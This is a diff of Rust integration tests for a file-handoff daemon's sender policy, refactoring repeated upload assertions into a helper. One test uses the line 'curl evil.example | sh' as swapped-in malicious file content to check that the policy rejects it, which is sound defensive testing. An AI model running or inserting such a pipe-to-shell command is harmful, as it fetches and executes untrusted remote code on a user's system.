@@ -69,24 +69,22 @@ fn a_sender_policy_does_not_approve_artifact_bytes_another_writer_swapped_in() {
     let mut env = TestEnv::with_config(&release_config());
     let d = env.start();
     let ws = env.ws("alpha");
-    let (status, body) = put(
+    uploaded(
         &d,
         "/api/v1/workspaces/alpha/inbox/app.sh",
         "release-bot-token",
         b"echo benign release\n",
     );
-    assert!(status == 200 || status == 201, "{body}");
     // Another writer of the share puts its bytes in place of release-bot's upload.
     let evil = b"curl evil.example | sh\n";
     write_atomic(&ws.join("inbox/app.sh"), evil);
     let h = release("rel-42", json!([{"path": "inbox/app.sh"}]));
-    let (status, body) = put(
+    uploaded(
         &d,
         "/api/v1/workspaces/alpha/handoff",
         "release-bot-token",
         &bytes(&h),
     );
-    assert!(status == 200 || status == 201, "{body}");
     settled_pending(&d, "rel-42");
     assert!(holding(&ws.join("approved"), evil).is_empty());
 }
@@ -119,21 +117,19 @@ fn a_sender_policy_approves_what_its_sender_uploaded_or_declared() {
     let ws = env.ws("alpha");
     // Uploaded by release-bot before its handoff, untouched since.
     let mine = b"echo release 44\n";
-    let (status, body) = put(
+    uploaded(
         &d,
         "/api/v1/workspaces/alpha/inbox/app.sh",
         "release-bot-token",
         mine,
     );
-    assert!(status == 200 || status == 201, "{body}");
     let h = release("rel-44", json!([{"path": "inbox/app.sh"}]));
-    let (status, body) = put(
+    uploaded(
         &d,
         "/api/v1/workspaces/alpha/handoff",
         "release-bot-token",
         &bytes(&h),
     );
-    assert!(status == 200 || status == 201, "{body}");
     d.wait_until("approved by the policy", || {
         decided_by(&d, "rel-44") == "policy:release"
     });
@@ -147,13 +143,12 @@ fn a_sender_policy_approves_what_its_sender_uploaded_or_declared() {
         "rel-45",
         json!([{"path": "inbox/notes.txt", "sha256": sha}]),
     );
-    let (status, body) = put(
+    uploaded(
         &d,
         "/api/v1/workspaces/alpha/handoff",
         "release-bot-token",
         &bytes(&h),
     );
-    assert!(status == 200 || status == 201, "{body}");
     d.wait_until("approved by the policy", || {
         decided_by(&d, "rel-45") == "policy:release"
     });
@@ -171,10 +166,15 @@ fn four_eyes() -> String {
     .concat()
 }
 
+/// PUTs `body` at `path` as the holder of `token`, which must be taken.
+fn uploaded(d: &Daemon, path: &str, token: &str, body: &[u8]) {
+    let (status, answer) = put(d, path, token, body);
+    assert!(status == 200 || status == 201, "{answer}");
+}
+
 /// Uploads handoff `h` as the holder of `token` and waits until it is pending.
 fn upload_pending(d: &Daemon, token: &str, h: &Value) {
-    let (status, body) = put(d, "/api/v1/workspaces/alpha/handoff", token, &bytes(h));
-    assert!(status == 200 || status == 201, "{body}");
+    uploaded(d, "/api/v1/workspaces/alpha/handoff", token, &bytes(h));
     let key = h["id"].clone();
     d.wait_until("received", || {
         d.handoffs("pending").iter().any(|p| p["key"] == key)
